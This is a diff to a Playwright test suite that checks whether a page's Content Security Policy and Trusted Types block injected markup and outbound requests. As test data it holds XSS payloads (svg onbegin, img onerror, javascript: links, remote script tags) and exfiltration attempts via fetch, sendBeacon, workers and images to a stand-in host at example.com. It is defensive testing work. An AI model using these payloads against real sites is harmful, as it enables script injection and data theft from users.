@@ -17,6 +17,11 @@ const injections: readonly ((n: number) => string)[] = [
   (n) => `<svg><animate onbegin=injected(${n}) attributeName=x dur=1s>`,
 ];
 
+/** What browsers with Trusted Types have as `trustedTypes`. */
+interface Policies {
+  createPolicy(name: string, rules: object): unknown;
+}
+
 const text = (value: unknown): Uint8Array => new TextEncoder().encode(JSON.stringify(value));
 
 /** Numbers of the injections that ran. */
@@ -100,9 +105,9 @@ test('20 injections stay text', async ({ page, openPage }, testInfo) => {
 });
 
 test.describe('markup that got into the page', () => {
-  test.use({ expectedErrors: /Content Security Policy|violates|TrustedHTML|404/, expectedViolations: true });
+  test.use({ expectedErrors: /Content Security Policy|violates|Trusted|404/, expectedViolations: true });
 
-  test('runs no program and sends nothing away', async ({ page, context, openPage }) => {
+  test('by the page’s scripts is refused, and nothing is sent away', async ({ page, context, openPage }) => {
     const ran = await watchInjections(page);
     const asked: string[] = [];
     await context.route('https://example.com/**', (route) => {
@@ -112,35 +117,16 @@ test.describe('markup that got into the page', () => {
     await openPage(SMALL);
     const refused = await page.evaluate(
       async (markup) => {
-        for (const each of markup) {
-          const host = document.createElement('div');
-          // Past what the page itself refuses to write as HTML.
-          const parsed = new DOMParser().parseFromString('<p></p>', 'text/html');
-          host.append(...parsed.body.childNodes);
-          document.body.append(host);
-          try {
-            host.innerHTML = each;
-          } catch {
-            // Trusted Types are enforced.
-          }
-          const script = document.createElement('script');
-          script.text = 'injected(100)';
-          host.append(script);
-          const image = document.createElement('img');
-          image.setAttribute('onerror', 'injected(101)');
-          image.src = 'data:,';
-          host.append(image);
-        }
-        const link = document.createElement('a');
-        link.href = 'javascript:injected(102)';
-        document.body.append(link);
-        link.click();
-        const elsewhere = document.createElement('script');
-        elsewhere.src = 'https://example.com/injected.js';
-        document.head.append(elsewhere);
-        const picture = new Image();
-        picture.src = 'https://example.com/leak.png';
+        const host = document.createElement('div');
+        document.body.append(host);
+        const script = document.createElement('script');
         const tries: Record<string, () => unknown> = {
+          ...Object.fromEntries(markup.map((text, n) => [`markup ${n}`, () => (host.innerHTML = text)])),
+          parser: () => new DOMParser().parseFromString('<p></p>', 'text/html'),
+          script: () => (script.text = 'injected(100)'),
+          address: () => (script.src = 'https://example.com/injected.js'),
+          worker: () => new Worker('https://example.com/injected.js'),
+          policy: () => (Reflect.get(window, 'trustedTypes') as Policies).createPolicy('another', {}),
           fetch: () => fetch('https://example.com/leak'),
           beacon: () => {
             if (navigator.sendBeacon('https://example.com/leak', 'leak')) return;
@@ -162,13 +148,46 @@ test.describe('markup that got into the page', () => {
           } catch {
             outcome.push(name);
           }
+        document.head.append(script);
+        const picture = new Image();
+        picture.src = 'https://example.com/leak.png';
         return outcome;
       },
       injections.map((kind, n) => kind(n)),
     );
-    expect(refused).toEqual(expect.arrayContaining(['eval', 'fetch', 'socket']));
+    // The sixth is an address, and no markup.
+    const markup = [0, 1, 2, 3, 4, 6].map((n) => `markup ${n}`);
+    const all = ['parser', 'script', 'address', 'worker', 'policy', 'fetch', 'socket', 'eval'];
+    expect(refused).toEqual(expect.arrayContaining([...markup, ...all]));
     expect(ran).toEqual([]);
     expect(asked).toEqual([]);
+  });
+
+  test('before any script of it runs no program', async ({ page, context, openPage }) => {
+    const ran = await watchInjections(page);
+    // Asked for by a browser that reads ahead, before there is a policy, and not run.
+    await context.route('https://example.com/**', (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: 'injected(104)' }),
+    );
+    const markup = [
+      ...injections.map((kind, n) => kind(n)),
+      '<img src="data:," onerror="injected(101)">',
+      '<a id="link" href="javascript:injected(102)">link</a>',
+      '<script src="https://example.com/injected.js"></script>',
+    ];
+    // Past Trusted Types: what a server or a proxy put into the page itself.
+    await page.route(/\/\?/, async (route) => {
+      const response = await route.fetch();
+      const text = await response.text();
+      await route.fulfill({
+        response,
+        body: text.replace('</body>', () => `${markup.join('</iframe>')}</body>`),
+      });
+    });
+    await openPage(SMALL);
+    await page.evaluate(() => document.querySelector<HTMLAnchorElement>('#link')?.click());
+    await expect(page.locator('svg animate')).toBeAttached();
+    expect(ran).toEqual([]);
   });
 });
 
